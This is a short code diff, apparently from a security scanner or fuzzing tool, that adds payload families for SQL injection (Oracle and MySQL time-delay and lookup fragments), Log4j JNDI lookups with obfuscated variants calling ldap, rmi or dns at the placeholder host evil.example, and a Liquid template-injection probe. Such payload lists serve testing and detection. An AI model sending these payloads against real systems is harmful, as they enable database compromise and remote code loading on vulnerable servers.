@@ -18,6 +18,18 @@ const family = (name: string, ...parts: readonly (readonly string[])[]): Payload
 
 export const SQL: readonly PayloadFamily[] = [
   family(
+    "function of a package",
+    ["1 and ", "1 or "],
+    ["dbms_pipe.receive_message('a',10)", "utl_inaddr.get_host_address('x')"],
+    ["=1"],
+  ),
+  family(
+    "condition in parentheses",
+    ["0'xor(", "x' or ("],
+    ["if(now()=sysdate(),sleep(6),0)", "sleep(5)"],
+    [")xor'z", ") or 'a"],
+  ),
+  family(
     "tautology after a quote",
     ["", "admin", "x'y"],
     ["' ", "') ", "')) ", '" '],
@@ -189,6 +201,14 @@ export const SHELL: readonly PayloadFamily[] = [
 ];
 
 export const TEMPLATE: readonly PayloadFamily[] = [
+  family(
+    "lookup of Log4j",
+    ["${"],
+    ["jndi:", "${lower:j}ndi:", "${::-j}${::-n}di:"],
+    ["ldap", "rmi", "dns"],
+    ["://evil.example/a}"],
+  ),
+  family("filter of Liquid", ["{{ ", "{{"], ["9999", "73"], [" | times: ", "|plus:"], ["9999 }}", "41}}"]),
   family(
     "probe",
     ["", "hello "],
